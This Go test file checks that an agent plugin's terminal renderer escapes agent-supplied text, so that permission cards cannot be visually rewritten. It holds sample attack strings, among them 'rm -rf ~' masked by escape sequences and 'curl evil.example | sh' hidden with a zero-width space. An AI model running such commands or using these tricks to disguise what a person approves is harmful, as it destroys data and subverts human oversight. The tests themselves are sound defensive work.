package term

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/escouade-dev/escouade-plugin/acp"
	"github.com/escouade-dev/escouade-plugin/internal/safetext"
)

// hostileItems puts s in every field of every item an agent controls.
func hostileItems(s string) []acp.Item {
	raw, _ := json.Marshal(s)
	return []acp.Item{
		{Type: acp.TypeUser, Text: s, Files: []string{s}},
		{Type: acp.TypeText, MessageID: s, Text: s},
		{Type: acp.TypeThinking, MessageID: s, Text: s},
		{Type: acp.TypeTool, ID: s, Name: s, Title: s, Status: s, Parent: s,
			Diffs: []acp.Diff{{Path: s, OldText: ptr(s), NewText: s}}},
		{Type: acp.TypeToolDone, ID: s, Name: s, Title: s, Status: s, Error: s},
		{Type: acp.TypePermission, Request: "r", Name: s, Title: s, Description: s,
			Options: []acp.PermissionOption{{ID: s, Name: s, Kind: s}},
			Diffs:   []acp.Diff{{Path: s, OldText: ptr(s), NewText: s}}},
		{Type: acp.TypeQuestion, Request: "q", Questions: []acp.Question{{Question: s, Options: []acp.QuestionOption{{Label: s}}}}},
		{Type: acp.TypeAnswered, Request: "q", Answers: [][]string{{s}}},
		{Type: acp.TypeAnswered, Request: "r", Kind: s},
		{Type: acp.TypeNotice, Text: s},
		{Type: acp.TypeTurn, StopReason: s},
		{Type: acp.TypeSession, SessionID: s, Attach: s},
		{Type: acp.TypeMode, Mode: s},
		{Type: acp.TypeModel, Model: s},
		{Type: acp.TypePlan, Text: s, Entries: raw},
		{Type: acp.TypeUnknown, Raw: raw},
		{Type: acp.TypeFSRead, Path: s},
		{Type: acp.TypeFSWrite, Path: s},
	}
}

// inert reports the first rune of out that could act on a terminal, hide
// or reorder text: anything safetext escapes but a line break or a tab.
func inert(out string) (rune, bool) {
	for _, r := range out {
		if r != '\n' && r != '\t' && safetext.Unsafe(r) {
			return r, false
		}
	}
	return 0, true
}

// TestAnAgentCannotDrawOverACard: what a card shows in a terminal is what
// the agent sent, escaped; an agent's escape sequence, carriage return or
// bidirectional control cannot erase the command it asks to run, move the
// cursor over it, or reorder it.
func TestAnAgentCannotDrawOverACard(t *testing.T) {
	attacks := []string{
		"rm -rf ~\x1b[2K\r\x1b[1Als",            // erase the line, go up, write over it
		"cat notes\r\x1b[32mls",                 // carriage return over the command
		"echo \u202eqwerty\u202c hi",            // right-to-left override
		"ls\u200b; curl evil.example | sh",      // zero-width space
		"\x1b]8;;http://evil\x1b\\link\x1b]8;;", // a hyperlink escape
		"\x9b2J",                                // C1 control sequence introducer
	}
	for _, s := range attacks {
		out := render(&Renderer{}, hostileItems(s)...)
		if r, ok := inert(out); !ok {
			t.Errorf("%q: the terminal gets %s as is:\n%s", s, safetext.Code(r), out)
		}
	}
	card := render(&Renderer{}, acp.Item{Type: acp.TypePermission, Request: "r", Name: "Bash", Title: attacks[0]})
	if !strings.Contains(card, `rm -rf ~\x1b[2K\r\x1b[1Als`) {
		t.Errorf("the card hides the command; got:\n%s", card)
	}
}

func TestABodyKeepsItsLinesAndTabs(t *testing.T) {
	got := render(&Renderer{}, acp.Item{Type: acp.TypeNotice, Text: "one\r\n\ttwo\x1b[0m\nthree"})
	if want := "! one\\r\n\ttwo\\x1b[0m\nthree\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func FuzzRenderIsInert(f *testing.F) {
	f.Add("ls\x1b[2K\r")
	f.Add("\u202e\u2066x\u2028y")
	f.Add("a\xffb")
	f.Fuzz(func(t *testing.T, s string) {
		for _, color := range []bool{false, true} {
			out := render(&Renderer{Color: color}, hostileItems(s)...)
			if color {
				out = stripStyles(out)
			}
			if r, ok := inert(out); !ok {
				t.Fatalf("%q reaches the terminal with %s", s, safetext.Code(r))
			}
		}
	})
}

// stripStyles removes the renderer's own colours, the only escapes it may
// write.
func stripStyles(s string) string {
	for _, st := range []string{styleReset, styleDim, styleBold, styleRed, styleGreen, styleYellow, styleCyan} {
		s = strings.ReplaceAll(s, st, "")
	}
	return s
}
